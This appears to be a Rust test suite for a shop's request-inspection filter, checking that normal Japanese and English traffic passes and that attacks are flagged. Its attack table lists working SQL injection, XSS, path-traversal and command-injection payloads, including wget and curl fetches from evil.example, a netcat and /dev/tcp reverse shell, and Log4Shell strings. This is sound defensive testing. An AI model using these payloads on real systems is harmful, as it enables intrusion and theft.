use super::*;
use proptest::prelude::*;
use std::collections::HashSet;

/// An owned request, so that tables can build one per case.
#[derive(Default, Clone)]
struct Req {
    path: String,
    query: Option<String>,
    agent: Option<String>,
    headers: Vec<(String, Vec<u8>)>,
    body: Option<Vec<u8>>,
}

fn run(r: &Req) -> Vec<Hit> {
    let headers: Vec<(&str, &[u8])> = r
        .headers
        .iter()
        .map(|(n, v)| (n.as_str(), v.as_slice()))
        .collect();
    let req = Request {
        method: "POST",
        path: if r.path.is_empty() { "/" } else { &r.path },
        query: r.query.as_deref(),
        user_agent: r.agent.as_deref(),
        headers: &headers,
        body: r.body.as_deref(),
    };
    let hits = inspect(&req);
    check_invariants(&hits);
    hits
}

/// What every answer must satisfy, whatever the input.
fn check_invariants(hits: &[Hit]) {
    assert!(hits.len() <= MAX_HITS, "too many hits: {hits:?}");
    let known: HashSet<(RuleClass, &str)> = rules().collect();
    let mut seen = HashSet::new();
    for hit in hits {
        assert!(
            known.contains(&(hit.class, hit.rule)),
            "unknown rule or wrong class: {hit:?}"
        );
        assert!(
            seen.insert((hit.class, hit.place.code())),
            "two hits for one class and place: {hits:?}"
        );
        if hit.class == RuleClass::PlatformProbe {
            assert_eq!(hit.place, Place::Path);
        }
    }
}

/// How a browser encodes a form value (`application/x-www-form-urlencoded`).
fn form_encode(s: &str) -> String {
    let mut out = String::new();
    for &b in s.as_bytes() {
        match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'*' => {
                out.push(char::from(b))
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

#[derive(Debug, Clone, Copy)]
enum In {
    /// A storefront search, as the browser sends it: `?q=` form-encoded.
    Search(&'static str),
    /// A raw query string, as sent (for hand-made encodings).
    Query(&'static str),
    Path(&'static str),
    PathQuery(&'static str, &'static str),
    /// A raw form body.
    Form(&'static str),
    /// A contact-desk message: a form body with the text form-encoded.
    Message(&'static str),
    Json(&'static str),
    Agent(&'static str),
    Header(&'static str, &'static str),
}

fn build(input: In) -> Req {
    let mut r = Req {
        path: "/search".into(),
        ..Req::default()
    };
    match input {
        In::Search(s) => r.query = Some(format!("q={}&page=1", form_encode(s))),
        In::Query(q) => r.query = Some(q.into()),
        In::Path(p) => r.path = p.into(),
        In::PathQuery(p, q) => {
            r.path = p.into();
            r.query = Some(q.into());
        }
        In::Form(f) => r.body = Some(f.as_bytes().to_vec()),
        In::Message(m) => {
            r.path = "/contact".into();
            r.body = Some(
                format!("csrf_token=Zm9v&topic=order&message={}", form_encode(m)).into_bytes(),
            );
        }
        In::Json(j) => r.body = Some(j.as_bytes().to_vec()),
        In::Agent(a) => r.agent = Some(a.into()),
        In::Header(n, v) => r.headers.push((n.into(), v.as_bytes().to_vec())),
    }
    r
}

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

/// Normal shop traffic: none of these may hit anything.
const CLEAN: &[In] = &[
    In::Search("O'Reilly"),
    In::Search("Tom's bottle"),
    In::Search("1=1 マグ"),
    In::Search("select ボトル"),
    In::Search("drop ケトル"),
    In::Search("union"),
    In::Search("ユニオン union マグカップ"),
    In::Search("<3"),
    In::Search("i <3 kura mugs"),
    In::Search("1-2-3 Nishi-Shinjuku"),
    In::Search("港区芝公園4丁目2-8"),
    In::Search("ホテル&スパ"),
    In::Search("（株）山田＆佐藤 ＇限定＇ セット"),
    In::Search("Ｔｏｍ＇ｓ ｂｏｔｔｌｅ"),
    In::Search("Rock'n'roll mug"),
    In::Search("Coeur d'Or"),
    In::Search("D'Orazio 1/2"),
    In::Search("50% off"),
    In::Search("100%"),
    In::Search("C++ & C# book"),
    In::Search("Size: S/M/L"),
    In::Search("mug | kettle"),
    In::Search("1) mugs 2) kettles"),
    In::Search("javascript book"),
    In::Search("facial expression (smile) mug"),
    In::Message("I can't log in; the page says 'error' -- please help"),
    In::Message("Please deliver to the 2nd floor (back door)"),
    In::Message("don't drop it; it's glass"),
    In::Message("What's new? Sale -- today only!"),
    In::Message("OK -- 'thanks'"),
    In::Message("the 'premium' line or the 'basic' one"),
    In::Message("it says 'error' or something like that"),
    In::Message("it says 'error' or something like 'that'"),
    In::Message("Use code 'SPRING10' or 'SUMMER' = same?"),
    In::Message("Order K-2026-ABCD: 2 × mug, 1 × kettle; total ¥4,800"),
    In::Message("Set of 2 and 1 = 3 pieces"),
    In::Message("Call me at 03-1234-5678 (9:00-18:00)"),
    In::Message("Tea & cake; sleep well"),
    In::Message("The cat's bowl; cat toys too"),
    In::Message("I'll be away; ping me at 090-1234-5678"),
    In::Message("the page said \"alert\" when I paid"),
    In::Message("Please confirm (order K-2026-ABCD)"),
    In::Message("Address: 1-2-3 Nishi-Shinjuku; id card attached"),
    In::Message("java script: it fails on my phone"),
    In::Message("Wait... what? Sizes S...L"),
    In::Message("ログインできません。「エラー」と表示されます。"),
    In::Message("置き配希望です（玄関前）＆ 午前中にお願いします＇"),
    In::Form("login=o%27brien%40example.jp&email=o%27brien%40example.jp"),
    In::Form("phone=%2B81-3-1234-5678&email=tanaka%2Bshop%40example.jp"),
    In::Form("login=a%40b.jp&password=%27+or+1%3D1--&csrf_token=abc"),
    In::Form("otp=123456&code=%27+union+select+1--"),
    In::Form("user%5Bpassword%5D=%3Cscript%3E&user%5Bname%5D=Tanaka"),
    In::Form(
        "description=%3Cp%3EStainless+%3Cstrong%3Evacuum%3C%2Fstrong%3E+bottle%3C%2Fp%3E&price=3200",
    ),
    In::Form(
        "tracking_url=https%3A%2F%2Ftrack.example.jp%2Ftrack%3Fno%3D1234%26lang%3Dja&carrier=yamato",
    ),
    In::Json(
        r#"{"items":[{"sku":"KB-01","quantity":2}],"ship_to":{"name":"山田 太郎","kana":"ヤマダ タロウ","postal_code":"105-0011","address":"港区芝公園4丁目2-8","phone":"+81-3-1234-5678"},"note":"置き配OK & 午前中 (9-12)","payment":"card"}"#,
    ),
    In::Json(r#"[{"sku":"KB-01","quantity":1},{"sku":"KB-02","quantity":3}]"#),
    In::Json(r#"{"message":"Hello <b>world</b>, see <i>this</i>"}"#),
    In::Json(
        r#"{"email":"a@b.jp","password":"' or 1=1--","new_password":"<script>alert(1)</script>","otp":"123456"}"#,
    ),
    In::Json(r#"{"user":{"password":{"old":"../../etc/passwd","new":"';id"}},"name":"O'Brien"}"#),
    In::Path("/products/vacuum-bottle-light"),
    In::Path("/orders/K-2026-ABCD"),
    In::PathQuery("/admin/orders", "status=paid&before=123"),
    In::Path("/category/kitchen"),
    In::Path("/.well-known/security.txt"),
    In::Path("/images/abc123.webp"),
    In::Path("/lang/ja"),
    In::Path("/products/console-table"),
    In::Path("/products/jenkins-mug"),
    In::Path("/api/v1/products/vacuum-bottle-light"),
    In::Agent(CHROME),
    In::Agent(""),
    In::Agent("curl/8.5.0"),
    In::Agent(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/14.3.0",
    ),
    In::Agent(
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Mobile Safari/537.36",
    ),
    In::Agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    In::Header("referer", "https://kura.example.jp/search?q=O%27Reilly+mug"),
    In::Header("x-forwarded-for", "203.0.113.9, 10.0.0.1"),
    In::Header(
        "cookie",
        "lang=ja; __Host-kura_session=' or 1=1--; __Host-kura_staff=<script>; kura_cart=';id",
    ),
    In::Header("authorization", "Bearer ' or 1=1--"),
];

#[test]
fn normal_traffic_does_not_hit() {
    assert!(CLEAN.len() >= 40);
    let failures: Vec<String> = CLEAN
        .iter()
        .filter_map(|&input| {
            let hits = run(&build(input));
            (!hits.is_empty()).then(|| format!("{input:?} -> {hits:?}"))
        })
        .collect();
    assert!(
        failures.is_empty(),
        "false positives:\n{}",
        failures.join("\n")
    );
}

use RuleClass::{
    CommandInjection as Cmd, CrossSiteScripting as Xss, NullByte as Nul, PathTraversal as Trav,
    PlatformProbe as Probe, Scanner as Scan, SqlInjection as Sql,
};

/// Attacks, many as scanners send them: each must hit its class.
const ATTACKS: &[(In, RuleClass)] = &[
    // SQL injection
    (In::Search("' or 1=1--"), Sql),
    (In::Search("\" or \"a\"=\"a"), Sql),
    (In::Search("' or 'x'='x"), Sql),
    (In::Search("admin'or'1'='1"), Sql),
    (In::Search("') or ('1'='1"), Sql),
    (In::Search("' OR 1-- -"), Sql),
    (In::Search("' or 'a' = 'a"), Sql),
    (In::Search("x' OR name LIKE '%"), Sql),
    (In::Search("1 AND 1=1"), Sql),
    (In::Search("1 AND 1=2"), Sql),
    (In::Search("1) AND 5432=5433 AND (7001=7001"), Sql),
    (In::Search("1 AND 7392=7392-- bhpA"), Sql),
    (In::Search("1' AND SLEEP(5)-- -"), Sql),
    (In::Search("1) UNION ALL SELECT NULL,NULL--"), Sql),
    (In::Search("-1 union/**/select 1,2,3"), Sql),
    (In::Search("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"), Sql),
    (In::Search("1 UNION%23foo%0ASELECT 1"), Sql),
    (In::Search("x' union select sql from sqlite_master--"), Sql),
    (In::Search("1; DROP TABLE users"), Sql),
    (In::Search("1'; shutdown--"), Sql),
    (In::Search("x'; delete from orders where 1=1--"), Sql),
    (In::Search("1 waitfor delay '0:0:5'"), Sql),
    (In::Search("1 and benchmark(5000000,md5(1))"), Sql),
    (In::Search("1;select pg_sleep(5)"), Sql),
    (In::Search("1 and randomblob(500000000/2)"), Sql),
    (In::Search("admin'--"), Sql),
    (In::Search("admin'#"), Sql),
    (In::Search("admin'/*"), Sql),
    (
        In::Search("1 and (select count(*) from information_schema.tables)>0"),
        Sql,
    ),
    (In::Search("1 and @@version>0"), Sql),
    (In::Search("1' and load_file('/etc/passwd')"), Sql),
    (In::Search("1 into outfile '/var/www/x.txt'"), Sql),
    (In::Search("1;exec master..xp_cmdshell 'dir'"), Sql),
    (In::Search("1 or xp_dirtree('\\\\10.0.0.1\\x')"), Sql),
    (
        In::Search("1 and extractvalue(1,concat(0x7e,version()))"),
        Sql,
    ),
    (In::Search("1 and updatexml(1,concat(0x7e,user()),1)"), Sql),
    (In::Query("id=1%2527%2520or%25201%253D1--"), Sql),
    (
        In::Query("q=1%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users"),
        Sql,
    ),
    (In::Query("q='+or+1=1--"), Sql),
    (In::Search("１＇ ｏｒ ＇１＇＝＇１"), Sql),
    (In::Search("ｕｎｉｏｎ　ｓｅｌｅｃｔ　１，２"), Sql),
    (In::Json(r#"{"q":"' OR '1'='1"}"#), Sql),
    (In::Form("login=admin'--&password=x"), Sql),
    (In::Path("/products/1'%20or%20'1'='1"), Sql),
    (
        In::Header(
            "referer",
            "https://shop.example.jp/?id=1%20union%20select%201",
        ),
        Sql,
    ),
    // Cross-site scripting
    (In::Search("<script>alert(1)</script>"), Xss),
    (In::Search("\"><svg/onload=alert(1)>"), Xss),
    (In::Search("<img src=x onerror=alert(1)>"), Xss),
    (In::Search("javascript:alert(document.cookie)"), Xss),
    (In::Search("<body onload=alert(1)>"), Xss),
    (In::Search("<iframe src=//evil.example>"), Xss),
    (In::Search("<base href=//evil.example/>"), Xss),
    (
        In::Search("\" srcdoc=\"&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
        Xss,
    ),
    (In::Search("'-alert(1)-'"), Xss),
    (In::Search("\";prompt(1);//"), Xss),
    (In::Search("'+document.cookie+'"), Xss),
    (In::Query("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), Xss),
    (
        In::Query("q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        Xss,
    ),
    (In::Search("&lt;script&gt;alert(1)&lt;/script&gt;"), Xss),
    (In::Search("&#60;img src=x onerror=alert(1)&#62;"), Xss),
    (In::Search("&#x3c;svg onload=confirm(1)&#x3e;"), Xss),
    (
        In::Search("＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞"),
        Xss,
    ),
    (In::Query("q=%EF%BC%9Cscript%EF%BC%9E"), Xss),
    (In::Search("jav&#x09;ascript:alert(1)"), Xss),
    (
        In::Search("<div style=\"width:expression(alert(1))\">"),
        Xss,
    ),
    (In::Search("<a href=\"x\" onmouseover=\"alert(1)\">"), Xss),
    (In::Search("\" onfocus=alert(1) autofocus=\""), Xss),
    (
        In::Search("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
        Xss,
    ),
    (In::Search("<embed src=x>"), Xss),
    (In::Search("<details open ontoggle=alert(1)>"), Xss),
    (In::Agent("<script>alert(1)</script>"), Xss),
    (
        In::Json(r#"{"message":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#),
        Xss,
    ),
    // Path traversal
    (In::Path("/images/../../../../etc/passwd"), Trav),
    (In::Search("../../../../etc/passwd"), Trav),
    (In::Path("/images/%2e%2e%2f%2e%2e%2fetc%2fpasswd"), Trav),
    (In::Path("/images/..%c0%af..%c0%afwindows/win.ini"), Trav),
    (In::Path("/images/%252e%252e%252fwin.ini"), Trav),
    (In::Path("/images/..;/admin"), Trav),
    (In::Search("....//....//etc/hosts"), Trav),
    (In::Search("..\\..\\windows\\win.ini"), Trav),
    (In::Search("．．／．．／ｅｔｃ／ｐａｓｓｗｄ"), Trav),
    (In::Search("file:///etc/passwd"), Trav),
    (In::Search("file://localhost/home/kura"), Trav),
    (
        In::Search("php://filter/convert.base64-encode/resource=index"),
        Trav,
    ),
    (In::Search("/proc/self/environ"), Trav),
    (
        In::Search("C:\\Windows\\System32\\drivers\\etc\\hosts"),
        Trav,
    ),
    // Command injection
    (In::Search(";cat /etc/passwd"), Cmd),
    (In::Search("|id"), Cmd),
    (In::Search("`whoami`"), Cmd),
    (In::Search("$(id)"), Cmd),
    (In::Search("x && uname -a"), Cmd),
    (In::Search(";wget http://evil.example/x.sh"), Cmd),
    (In::Search("| curl http://evil.example"), Cmd),
    (In::Search("; nc -e /bin/sh 10.0.0.1 4444"), Cmd),
    (In::Search("x;ping -c 3 127.0.0.1"), Cmd),
    (In::Search("||sleep 10"), Cmd),
    (In::Search("; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), Cmd),
    (In::Search("；ｌｓ －ｌａ"), Cmd),
    (In::Query("q=x%0aid"), Cmd),
    (In::Query("q=%0Auname"), Cmd),
    (In::Search("cat${IFS}/etc/passwd"), Cmd),
    (In::Search("a;/bin/sh"), Cmd),
    (In::Agent("() { :; }; /bin/bash -c 'id'"), Cmd),
    (In::Agent("() { ignored; }; echo vulnerable"), Cmd),
    (In::Agent("${jndi:ldap://198.51.100.7:1389/a}"), Cmd),
    (
        In::Header("x-forwarded-for", "${${::-j}${::-n}di:rmi://x.example/a}"),
        Cmd,
    ),
    // Scanners
    (In::Agent("sqlmap/1.7.2#stable (https://sqlmap.org)"), Scan),
    (
        In::Agent("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
        Scan,
    ),
    (In::Agent("Wapiti/3.1.8"), Scan),
    (
        In::Agent(
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        ),
        Scan,
    ),
    (
        In::Agent("masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
        Scan,
    ),
    (In::Agent("Mozilla/5.0 zgrab/0.x"), Scan),
    (
        In::Agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        Scan,
    ),
    (In::Agent("Fuzz Faster U Fool v2.1.0"), Scan),
    (In::Agent("gobuster/3.6"), Scan),
    (In::Agent("Wfuzz/3.1.0"), Scan),
    (
        In::Agent(
            "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        ),
        Scan,
    ),
    (
        In::Agent("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
        Scan,
    ),
    (In::Json(r#"{"url":"http://abc123.oastify.com/"}"#), Scan),
    // Platform probes
    (In::Path("/wp-login.php"), Probe),
    (In::Path("/wp-admin/"), Probe),
    (In::Path("/blog/wp-content/plugins/x/readme.txt"), Probe),
    (In::Path("/xmlrpc.php"), Probe),
    (In::Path("/.env"), Probe),
    (In::Path("/%2eenv"), Probe),
    (In::Path("/.git/config"), Probe),
    (In::Path("/.svn/entries"), Probe),
    (In::Path("/.DS_Store"), Probe),
    (In::Path("/.aws/credentials"), Probe),
    (In::Path("/phpmyadmin/"), Probe),
    (In::Path("/pma/"), Probe),
    (In::Path("/adminer"), Probe),
    (In::Path("/cgi-bin/luci"), Probe),
    (In::Path("/server-status"), Probe),
    (In::Path("/actuator/health"), Probe),
    (
        In::Path("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
        Probe,
    ),
    (In::Path("/boaform/admin/formLogin"), Probe),
    (In::Path("/HNAP1/"), Probe),
    (In::Path("/owa/auth/logon.aspx"), Probe),
    (In::Path("/ecp/default.flt"), Probe),
    (In::Path("/config.php"), Probe),
    (In::Path("/web.config"), Probe),
    (In::Path("/elmah.axd"), Probe),
    (In::Path("/jenkins/login"), Probe),
    (In::Path("/solr/admin/info/system"), Probe),
    (In::Path("/console/"), Probe),
    (In::Path("//console/"), Probe),
    (In::Path("/index.jsp"), Probe),
    (In::Path("/shop/default.asp"), Probe),
    // Null bytes
    (In::Path("/images/a.webp%00.png"), Nul),
    (In::Query("file=x%00"), Nul),
    (In::Form("a=b%2500"), Nul),
    (In::Json(r#"{"name":"a\u0000b"}"#), Nul),
    (In::Header("x-forwarded-for", "1.2.3.4\0"), Nul),
    (In::Search("x&#0;y"), Nul),
];

#[test]
fn attacks_hit_their_class() {
    assert!(ATTACKS.len() >= 60);
    let failures: Vec<String> = ATTACKS
        .iter()
        .filter_map(|&(input, class)| {
            let hits = run(&build(input));
            (!hits.iter().any(|h| h.class == class))
                .then(|| format!("{input:?} should be {class:?} -> {hits:?}"))
        })
        .collect();
    assert!(failures.is_empty(), "misses:\n{}", failures.join("\n"));
}

#[test]
fn every_rule_is_exercised_by_the_attack_table() {
    let fired: HashSet<&str> = ATTACKS
        .iter()
        .flat_map(|&(input, _)| run(&build(input)))
        .map(|h| h.rule)
        .collect();
    let silent: Vec<&str> = FIXED_RULES
        .iter()
        .map(|&(_, id)| id)
        .filter(|id| !fired.contains(id))
        .collect();
    assert!(silent.is_empty(), "rules no attack exercises: {silent:?}");
}

#[test]
fn rule_ids_are_unique_and_named_after_their_class() {
    let mut seen = HashSet::new();
    for (class, id) in rules() {
        assert!(seen.insert(id), "duplicate rule id {id}");
        let prefix = match class {
            Sql => "sqli.",
            Xss => "xss.",
            Trav => "traversal.",
            Cmd => "cmdi.",
            Scan => "scanner.",
            Probe => "probe.",
            Nul => "null.",
        };
        assert!(id.starts_with(prefix), "{id} is not named {prefix}*");
        assert!(
            id.bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'.' || b == b'_')
        );
    }
    for &(_, _, id) in &PROBES {
        assert!(seen.contains(id), "{id} missing from the rule list");
    }
}

#[test]
fn class_codes_are_stable_snake_case_and_complete() {
    let codes: Vec<&str> = RuleClass::ALL.iter().map(|c| c.code()).collect();
    assert_eq!(
        codes,
        [
            "sql_injection",
            "cross_site_scripting",
            "path_traversal",
            "command_injection",
            "scanner",
            "platform_probe",
            "null_byte"
        ]
    );
    // The scan indexes its findings by `class as usize`: ALL must be in declaration order.
    for (k, class) in RuleClass::ALL.into_iter().enumerate() {
        assert_eq!(class as usize, k);
    }
    // A new variant must be added to ALL: this match stops compiling otherwise.
    for class in RuleClass::ALL {
        let listed = match class {
            Sql | Xss | Trav | Cmd | Scan | Probe | Nul => true,
        };
        assert!(listed);
    }
}

#[test]
fn hits_name_the_place_where_the_payload_was() {
    let r = Req {
        path: "/.env".into(),
        query: Some("q=%27+or+1%3D1--".into()),
        agent: Some("sqlmap/1.8".into()),
        headers: vec![("referer".into(), b"https://x.example/<script>".to_vec())],
        body: Some(b"message=;cat+/etc/passwd".to_vec()),
    };
    let hits = run(&r);
    let has = |class, place| hits.iter().any(|h| h.class == class && h.place == place);
    assert!(has(Probe, Place::Path), "{hits:?}");
    assert!(has(Sql, Place::Query), "{hits:?}");
    assert!(has(Scan, Place::Header), "{hits:?}");
    assert!(has(Xss, Place::Header), "{hits:?}");
    assert!(has(Cmd, Place::Body), "{hits:?}");
    assert!(has(Trav, Place::Body), "{hits:?}");
    let rule_of = |class| hits.iter().find(|h| h.class == class).map(|h| h.rule);
    assert_eq!(rule_of(Scan), Some("scanner.sqlmap"));
    assert_eq!(rule_of(Probe), Some(rule::PROBE_DOTFILE));
}

#[test]
fn one_hit_per_class_and_place_and_no_more_than_max() {
    // Three SQL payloads in one query: one hit.
    let r = Req {
        query: Some("a=%27+or+1%3D1--&b=1+union+select+1&c=sleep(5)".into()),
        ..Req::default()
    };
    let hits = run(&r);
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].rule, rule::SQLI_TAUTOLOGY);

    // Everything everywhere: stops at MAX_HITS.
    let all = "%27+or+1%3D1--+%3Cscript%3E+..%2F..%2Fetc%2Fpasswd+%3Bcat+%2Fetc%2Fpasswd+%00+x.oastify.com";
    let r = Req {
        path: format!("/wp-admin/{all}"),
        query: Some(format!("q={all}")),
        agent: Some("sqlmap".into()),
        headers: vec![("referer".into(), all.as_bytes().to_vec())],
        body: Some(format!("m={all}").into_bytes()),
    };
    let hits = run(&r);
    assert_eq!(hits.len(), MAX_HITS, "{hits:?}");
}

#[test]
fn secret_fields_are_never_inspected_but_their_neighbours_are() {
    let payload = "%27+or+1%3D1--";
    for secret in SECRET_FIELDS {
        let r = build(In::Form("x"));
        let r = Req {
            body: Some(format!("{secret}={payload}").into_bytes()),
            ..r
        };
        assert!(run(&r).is_empty(), "{secret} was inspected");
        let r = Req {
            body: Some(format!("{}={payload}", secret.to_uppercase()).into_bytes()),
            ..Req::default()
        };
        assert!(run(&r).is_empty(), "{secret} (upper case) was inspected");
        let r = Req {
            query: Some(format!("{secret}={payload}")),
            ..Req::default()
        };
        assert!(run(&r).is_empty(), "{secret} in a query was inspected");
        let json = format!(r#"{{"{secret}":"' or 1=1--","nested":{{"{secret}":["<script>"]}}}}"#);
        let r = Req {
            body: Some(json.into_bytes()),
            ..Req::default()
        };
        assert!(run(&r).is_empty(), "JSON member {secret} was inspected");
    }
    // The same payload in an ordinary field hits: the skip is by name, not by luck.
    let r = Req {
        body: Some(format!("login=x&password=y&note={payload}").into_bytes()),
        ..Req::default()
    };
    assert_eq!(run(&r).len(), 1);
    let r = Req {
        body: Some(br#"{"password":"x","note":"' or 1=1--"}"#.to_vec()),
        ..Req::default()
    };
    assert_eq!(run(&r).len(), 1);
    let r = Req {
        body: Some(b"account.password=%3Cscript%3E&account[new_password]=%3Cscript%3E".to_vec()),
        ..Req::default()
    };
    assert!(run(&r).is_empty());
}

#[test]
fn session_cookies_and_credentials_are_skipped_other_cookies_are_not() {
    let header = |name: &str, value: &str| Req {
        headers: vec![(name.into(), value.as_bytes().to_vec())],
        ..Req::default()
    };
    for cookie in [
        "__Host-kura_session=' or 1=1--",
        "__Host-kura_staff=' or 1=1--",
        "__Secure-x=' or 1=1--",
        "PHPSESSID=' or 1=1--",
        "xsrf-token=' or 1=1--",
    ] {
        assert!(run(&header("cookie", cookie)).is_empty(), "{cookie}");
    }
    assert!(run(&header("authorization", "Basic ' or 1=1--")).is_empty());
    assert!(run(&header("x-csrf-token", "' or 1=1--")).is_empty());
    assert_eq!(run(&header("cookie", "lang=ja; theme=' or 1=1--")).len(), 1);
    // A cookie name is never a secret.
    assert_eq!(run(&header("cookie", "<script>=1")).len(), 1);
}

#[test]
fn only_the_capped_part_of_a_place_is_inspected() {
    let padding = "a".repeat(INSPECT_CAP);
    let late = Req {
        query: Some(format!("pad={padding}&q=%27+or+1%3D1--")),
        ..Req::default()
    };
    assert!(run(&late).is_empty());
    let early = Req {
        query: Some(format!("q=%27+or+1%3D1--&pad={padding}")),
        ..Req::default()
    };
    assert_eq!(run(&early).len(), 1);
}

#[test]
fn absent_or_empty_user_agent_is_no_hit() {
    assert!(run(&Req::default()).is_empty());
    let r = Req {
        agent: Some(String::new()),
        ..Req::default()
    };
    assert!(run(&r).is_empty());
}

fn normalised(raw: &str, plus: bool) -> String {
    let (mut a, mut b, mut out) = (Vec::new(), Vec::new(), Vec::new());
    normalise(raw.as_bytes(), plus, &mut a, &mut b, &mut out);
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn normalisation_decodes_folds_and_collapses() {
    assert_eq!(normalised("%253Cscript%253E", false), "<script>");
    assert_eq!(normalised("a+b%2Bc", true), "a b+c");
    assert_eq!(normalised("a+b", false), "a+b");
    assert_eq!(normalised("%u003cB%u003E", false), "<b>");
    assert_eq!(
        normalised("&lt;&#60;&#x3C;&#0000060&quot;&colon;", false),
        "<<<<\":"
    );
    assert_eq!(normalised("＜ＳＣＲＩＰＴ＞　＇", false), "<script> '");
    assert_eq!(normalised("..%c0%af..%e0%80%af", false), "../../");
    assert_eq!(normalised("UNION/**/SELECT  \t x", false), "union select x");
    assert_eq!(normalised("/*!50000UNION*/SELECT", false), " union select");
    assert_eq!(normalised("a'/* rest", false), "a'/* rest");
    assert_eq!(normalised("a \r\n b", false), "a\nb");
    assert_eq!(normalised("山田　太郎", false), "山田 太郎");
    assert_eq!(normalised("100%", false), "100%");
}

#[test]
fn a_mebibyte_of_hostile_input_terminates() {
    const MIB: usize = 1 << 20;
    let patterns = [
        "'or'1'='1",
        "<a<a on",
        "/*",
        "../",
        "%25",
        "&#",
        "1 and ",
        "; cat ",
        "union ",
        "\"\\u",
        "{[",
        "ｕ＜",
    ];
    for p in patterns {
        let big = p.repeat(MIB / p.len());
        let bytes = big.as_bytes().to_vec();
        let r = Req {
            path: big.clone(),
            query: Some(big.clone()),
            agent: Some(big.clone()),
            headers: vec![
                ("referer".into(), bytes.clone()),
                ("cookie".into(), bytes.clone()),
            ],
            body: Some(bytes),
        };
        run(&r);
        let json = Req {
            body: Some(format!("{{\"a\":\"{big}\"}}").into_bytes()),
            ..Req::default()
        };
        run(&json);
    }
}

/// Printable ASCII, hiragana, katakana, kanji, fullwidth ASCII, newline and `%`.
const MIXED: [(char, char); 7] = [
    (' ', '~'),
    ('ぁ', 'ゖ'),
    ('ァ', 'ヺ'),
    ('一', '龥'),
    ('！', '～'),
    ('\n', '\n'),
    ('%', '%'),
];

/// Picks characters from [`MIXED`]: the range by one number, the character by another
/// (cheaper to generate than a union of strategies).
fn mixed_text() -> impl Strategy<Value = String> {
    prop::collection::vec((0..MIXED.len(), any::<u32>()), 0..300).prop_map(|picks| {
        picks
            .into_iter()
            .filter_map(|(range, n)| {
                let (lo, hi) = MIXED[range];
                char::from_u32(lo as u32 + n % (hi as u32 - lo as u32 + 1))
            })
            .collect()
    })
}

/// Japanese prose as customers type it: kana, kanji, IME punctuation, digits.
fn japanese_prose() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            prop::char::range('ぁ', 'ゖ'),
            prop::char::range('ァ', 'ヺ'),
            prop::char::range('一', '龥'),
            prop::sample::select(vec![
                '、', '。', '「', '」', 'ー', '・', '（', '）', '＆', '！', '？', '　', ' ', '0',
                '1', '2', '9', '-', '〒', '￥',
            ]),
        ],
        0..200,
    )
    .prop_map(|cs| cs.into_iter().collect())
}

proptest! {
    #[test]
    fn never_panics_on_text(
        path in mixed_text(),
        query in mixed_text(),
        agent in mixed_text(),
        name in mixed_text(),
        value in mixed_text(),
        body in mixed_text(),
    ) {
        let r = Req {
            path,
            query: Some(query),
            agent: Some(agent),
            headers: vec![(name, value.into_bytes())],
            body: Some(body.into_bytes()),
        };
        run(&r);
    }

    #[test]
    fn never_panics_on_bytes(
        value in prop::collection::vec(any::<u8>(), 0..600),
        body in prop::collection::vec(any::<u8>(), 0..600),
        json in mixed_text(),
    ) {
        let r = Req {
            headers: vec![("referer".into(), value), ("cookie".into(), body.clone())],
            body: Some(body),
            ..Req::default()
        };
        run(&r);
        let r = Req { body: Some(format!("{{\"a\":[\"{json}\",{json}]}}").into_bytes()), ..Req::default() };
        run(&r);
    }

    #[test]
    fn japanese_prose_is_clean(text in japanese_prose()) {
        for input in [
            Req { query: Some(format!("q={}", form_encode(&text))), ..Req::default() },
            Req { body: Some(format!("message={}", form_encode(&text)).into_bytes()), ..Req::default() },
        ] {
            let hits = run(&input);
            prop_assert!(hits.is_empty(), "{text:?} -> {hits:?}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(6))]

    /// Cost is linear: a mebibyte of any text is cut to the cap and terminates.
    #[test]
    fn a_mebibyte_of_any_text_terminates(seed in mixed_text().prop_filter("not empty", |s| !s.is_empty())) {
        let big = seed.repeat((1 << 20) / seed.len() + 1);
        let r = Req {
            path: big.clone(),
            query: Some(big.clone()),
            agent: Some(big.clone()),
            headers: vec![("referer".into(), big.clone().into_bytes())],
            body: Some(big.into_bytes()),
        };
        run(&r);
    }
}
